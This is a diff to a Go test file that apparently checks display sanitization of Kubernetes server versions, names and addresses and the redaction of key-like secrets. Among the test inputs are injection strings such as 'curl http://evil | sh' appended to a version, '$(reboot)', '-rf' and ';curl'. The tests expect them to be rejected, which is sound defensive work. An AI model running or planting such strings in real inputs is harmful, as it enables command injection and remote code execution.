@@ -36,7 +36,7 @@ func TestCertificateIsShownPrintably(t *testing.T) {
 		UnverifiedCertificates: []*x509.Certificate{certificate}, Err: x509.HostnameError{Certificate: certificate, Host: "dfw.example"},
 	}}
 	d := FailureOf(err)
-	if d.State != StateUnreachable || strings.ContainsAny(d.Detail, "\x1b\n") || !strings.Contains(d.Detail, "dfw.example") {
+	if d.State != StateUnreachable || strings.ContainsAny(d.Detail, "\x1b\n") || strings.Contains(d.Detail, "Synced") || !strings.Contains(d.Detail, "dfw.example") {
 		t.Errorf("%s: %q", d.State, d.Detail)
 	}
 }
@@ -97,6 +97,39 @@ func TestQuote(t *testing.T) {
 	} {
 		if got := Quote(word); got != want {
 			t.Errorf("%q becomes %s, want %s", word, got, want)
+		}
+	}
+}
+
+func TestTextOfServers(t *testing.T) {
+	const key = "Vq3xL0_tYd8Kf2ZrW7bN-c5HsPm1JgQe9UaXi6ToRyA="
+	const name, address, hidden = "(unusual name)", "(unusual address)", "…"
+	for what, c := range map[string]struct {
+		show func(string) string
+		want map[string]string
+	}{
+		"Version": {Version, map[string]string{
+			"v1.36.3": "v1.36.3", "v1.30.4+k3s1": "v1.30.4+k3s1", "v1.29.3-gke.1282000": "v1.29.3-gke.1282000", "v1.31.0-alpha.3.120+abcdef12345678": "v1.31.0-alpha.3.120+abcdef12345678",
+			"": "unknown version", key: "unknown version", "v1.36.3; curl http://evil | sh": "unknown version", "v1.36.3-" + key: "unknown version", "v1.36.3\n": "unknown version",
+		}},
+		"Name": {Name, map[string]string{
+			"keystone-fernet-rotate-manual-20261130-101112": "keystone-fernet-rotate-manual-20261130-101112", "system:serviceaccount:openstack:fernetcast-sjc": "system:serviceaccount:openstack:fernetcast-sjc",
+			"pods/exec": "pods/exec", "*": "*", "*/scale": "*/scale", "admin@example.com": "admin@example.com", "kubernetes.io/tls": "kubernetes.io/tls",
+			"": name, key: name, "a b": name, "a;b": name, "$(reboot)": name, "-rf": name, "a\x1b[2J": name, strings.Repeat("a", 43): hidden, "x." + strings.Repeat("a1", 22): "x.…",
+		}},
+		"Address": {Address, map[string]string{
+			"https://dfw.example.com:6443": "https://dfw.example.com:6443", "https://[::1]:6443/a/b": "https://[::1]:6443/a/b", "https://10.0.0.9": "https://10.0.0.9",
+			"https://user:hunter2@dfw?a=b#c": "https://dfw", "https://$(reboot)/": address, "https://dfw/;curl": address, "kubernetes": address, "https://" + key: address,
+		}},
+		"Hide": {Hide, map[string]string{
+			"a\nb\t": "a\nb?", "key " + key + " ": "key … ", key[:43]: hidden, strings.Repeat("0f", 32): hidden, strings.ReplaceAll(key, "_", "/"): hidden, "ServiceAccount fernetcast-sjc": "ServiceAccount fernetcast-sjc",
+		}},
+		"Printable": {Printable, map[string]string{strings.Repeat("x ", 190) + key + key: strings.Repeat("x ", 190) + hidden + hidden}},
+	} {
+		for text, want := range c.want {
+			if got := c.show(text); got != want {
+				t.Errorf("%s of %q is %q, want %q", what, text, got, want)
+			}
 		}
 	}
 }
